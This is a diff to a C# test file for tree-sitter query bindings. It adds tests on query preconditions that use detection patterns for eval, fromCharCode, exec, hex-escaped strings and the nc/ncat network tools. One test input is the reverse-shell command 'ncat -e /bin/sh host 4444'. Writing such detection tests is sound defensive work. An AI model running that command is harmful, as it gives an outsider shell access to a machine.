@@ -413,6 +413,48 @@ public class TreeSitterBindingTests
     }
 
     [Theory]
+    [InlineData("((identifier) @id (#eq? @id \"eval\"))")]
+    [InlineData("((call_expression function: (member_expression object: (identifier) @o property: (property_identifier) @p))\n (#eq? @o \"String\") (#eq? @p \"fromCharCode\"))\n((call_expression function: (identifier) @f) (#any-of? @f \"eval\" \"Function\"))")]
+    [InlineData("((call_expression function: (identifier)? @f arguments: (arguments)) (#eq? @f \"eval\"))")]
+    [InlineData("((call_expression function: (identifier) @f)* (#eq? @f \"eval\"))")]
+    [InlineData("((call_expression function: (identifier) @f)+ (#eq? @f \"eval\"))")]
+    [InlineData("((call_expression function: (identifier) @f) @c ? (#eq? @f \"eval\"))")]
+    [InlineData("(call_expression function: [(identifier) @f (member_expression property: (property_identifier) @f)] (#eq? @f \"exec\"))")]
+    [InlineData("(call_expression function: [(identifier) @f (member_expression) @m] (#eq? @f \"exec\") (#eq? @m \"a.b\"))")]
+    [InlineData("[((identifier) @x (#eq? @x \"a\")) ((string) @x (#match? @x \"b{3}\"))]")]
+    [InlineData("; a comment (#eq? @x \"no\")\n((identifier) @x . (#not-eq? @x \"a\") (#eq? @x \"b\"))")]
+    [InlineData("(call_expression function: (_) @o !optional_chain arguments: (arguments) @p (#eq? @o \"exec\"))")]
+    [InlineData("((string) @s (#match? @s \"(\\\\\\\\x[0-9a-fA-F]{2}){8,}\"))")]
+    [InlineData("((string) @s (#match? @s \"\\\"q\\\"\\tz\\.w\"))")]
+    [InlineData("((string) @s (#match? @s \"^'zz\"))")]
+    [InlineData("((string) @s (#eq? @s bare-word))")]
+    [InlineData("((identifier) @a (identifier) @b (#eq? @a @b))")]
+    [InlineData("((identifier) @a (#set! kind \"x\") (#any-of? @a \"p\" \"q\"))")]
+    [InlineData("(identifier) @id")]
+    public void APreconditionReadFromTheQueryTextIsTheCompiledOne(string source)
+    {
+        using TsQuery compiled = TsQuery.Compile(TsLanguage.JavaScript, source);
+        Assert.Equal(compiled.Precondition.Describe(), TsQueryPrecondition.FromSource(source).Describe());
+    }
+
+    [Theory]
+    [InlineData("((identifier) @a (#eq? @a \"x\")")]     // unbalanced
+    [InlineData("((identifier) @a (#eq? @b \"x\"))")]    // unknown capture
+    [InlineData("((identifier) @a (#eq? @a \"x\nq\"))")] // a newline inside a string
+    [InlineData("((identifier) @a (#frob? @a \"x\"))")]   // unknown predicate
+    [InlineData("")]
+    public void AQueryTextTheReaderCannotFollowRulesNothingOut(string source) =>
+        Assert.True(TsQueryPrecondition.FromSource(source).CanMatchIn("nothing here"u8));
+
+    [Fact]
+    public void APreconditionReadFromTextRulesOutWhatTheCompiledOneRulesOut()
+    {
+        var fromText = TsQueryPrecondition.FromSource("((command name: (command_name) @n) (#any-of? @n \"nc\" \"ncat\"))");
+        Assert.False(fromText.CanMatchIn("ls -la\n"u8));
+        Assert.True(fromText.CanMatchIn("ncat -e /bin/sh host 4444\n"u8));
+    }
+
+    [Theory]
     [InlineData("[^a-z]{3}", true)]
     [InlineData("[]^$]x", true)]
     [InlineData("a\\$b", true)]
